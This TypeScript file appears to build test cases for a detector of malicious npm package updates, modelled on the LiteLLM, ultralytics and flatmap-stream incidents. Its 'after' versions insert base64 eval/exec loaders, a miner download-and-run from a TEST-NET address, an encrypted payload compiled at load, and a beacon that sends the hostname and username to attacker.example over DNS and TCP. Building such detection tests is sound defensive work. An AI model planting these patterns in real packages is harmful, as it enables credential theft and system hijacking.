/**
 * Payloads run from code: base64 exec (LiteLLM 1.82.7), download and run (ultralytics 8.3.41), an
 * encrypted payload compiled (flatmap-stream), a DNS and IP-literal beacon.
 * Defanged: hosts are `*.example`, addresses TEST-NET.
 */
import type { EvalCase } from './case.js';
import { libraryModule, minified } from './code.js';

export function base64Exec(): EvalCase {
  const server = libraryModule('route', 12, ['http']);
  const blob = Buffer.from("console.log('defanged payload');\n".repeat(60)).toString('base64');
  return {
    id: 'base64-exec-js',
    incident: 'LiteLLM 1.82.7 (JS variant): a base64 payload run when the proxy module loads',
    name: 'llm-proxy-kit',
    from: '1.82.6',
    to: '1.82.7',
    manifest: { main: 'index.js' },
    before: { 'index.js': "module.exports = require('./lib/proxy/server.js');\n", 'lib/proxy/server.js': server },
    after: {
      'index.js': "module.exports = require('./lib/proxy/server.js');\n",
      'lib/proxy/server.js': `const _p = "${blob}";\neval(Buffer.from(_p, 'base64').toString('utf8'));\n${server}`,
    },
    file: 'lib/proxy/server.js',
  };
}

export function pythonInNpm(): EvalCase {
  const helper = [
    'import os',
    'import sys',
    '',
    'def main(argv):',
    '    print(os.path.basename(argv[0]))',
    '',
    'if __name__ == "__main__":',
    '    main(sys.argv)',
    '',
  ].join('\n');
  const blob = Buffer.from('print("defanged payload")\n'.repeat(60)).toString('base64');
  return {
    id: 'base64-exec-py',
    incident: 'LiteLLM 1.82.7 (Python file shipped in an npm package): exec(base64) at import',
    name: 'pyright-helpers',
    from: '2.3.0',
    to: '2.3.1',
    manifest: { main: 'index.js' },
    before: { 'index.js': libraryModule('py', 4), 'scripts/helper.py': helper },
    after: { 'index.js': libraryModule('py', 4), 'scripts/helper.py': `import base64\nexec(base64.b64decode("${blob}"))\n${helper}` },
    file: 'scripts/helper.py',
  };
}

export function downloadRun(): EvalCase {
  const downloads = [
    "'use strict';",
    "const https = require('https');",
    "const fs = require('fs');",
    '',
    '/** Downloads a model file to `dest` (the URL comes from the caller). */',
    'function download(url, dest) {',
    '  return new Promise((resolve, reject) => {',
    '    https.get(url, (res) => res.pipe(fs.createWriteStream(dest)).on("finish", resolve)).on("error", reject);',
    '  });',
    '}',
    '',
    'module.exports = { download };',
    '',
  ].join('\n');
  const miner = [
    "const { spawn } = require('child_process');",
    'async function safeRun() {',
    "  await download('http://203.0.113.17/xmrig', '/tmp/.cache-x');",
    "  fs.chmodSync('/tmp/.cache-x', 0o755);",
    "  spawn('/tmp/.cache-x', ['-o', 'pool.attacker.example:3333'], { detached: true, stdio: 'ignore' }).unref();",
    '}',
    'safeRun().catch(() => {});',
    '',
  ].join('\n');
  return {
    id: 'download-and-run',
    incident: 'ultralytics 8.3.41: downloads a miner from a literal address and runs it',
    name: 'vision-utils',
    from: '8.3.40',
    to: '8.3.41',
    manifest: { main: 'index.js' },
    before: { 'index.js': "module.exports = require('./utils/downloads.js');\n", 'utils/downloads.js': downloads },
    after: { 'index.js': "module.exports = require('./utils/downloads.js');\n", 'utils/downloads.js': downloads + miner },
    file: 'utils/downloads.js',
  };
}

export function flatmap(): EvalCase {
  const min = minified(1, 200);
  const payload =
    '!function(){try{var r=require,t=process,c=r("crypto").createDecipher("aes256",t.env.npm_package_description),' +
    'd=c.update("0a1b2c3d4e5f","hex","utf8")+c.final("utf8"),i=new module.constructor;i.paths=module.paths,i._compile(d,""),i.exports}catch(e){}}();\n';
  return {
    id: 'flatmap-stream',
    incident: 'event-stream/flatmap-stream: an encrypted payload decrypted and compiled, in a minified file',
    name: 'flatmap-stream',
    from: '0.1.0',
    to: '0.1.1',
    manifest: { main: 'index.js' },
    before: { 'index.js': "module.exports = require('./index.min.js');\n", 'index.min.js': min },
    after: { 'index.js': "module.exports = require('./index.min.js');\n", 'index.min.js': min + payload },
    file: 'index.min.js',
  };
}

export function beacon(): EvalCase {
  const util = libraryModule('net', 10, ['os']);
  const evil = [
    util,
    'const tag = Buffer.from(os.hostname() + ":" + os.userInfo().username).toString("hex").slice(0, 60);',
    "require('dns').resolve(tag + '.b.attacker.example', () => {});",
    "const s = require('net').connect(4444, '203.0.113.50', () => s.end(tag)); s.on('error', () => {});",
    '',
  ].join('\n');
  return {
    id: 'dns-ip-beacon',
    incident: 'a DNS and IP-literal beacon carrying the host and user names',
    name: 'netutil-common',
    from: '0.9.4',
    to: '0.9.5',
    manifest: { main: 'index.js' },
    before: { 'index.js': "module.exports = require('./lib/util.js');\n", 'lib/util.js': util },
    after: { 'index.js': "module.exports = require('./lib/util.js');\n", 'lib/util.js': evil },
    file: 'lib/util.js',
  };
}
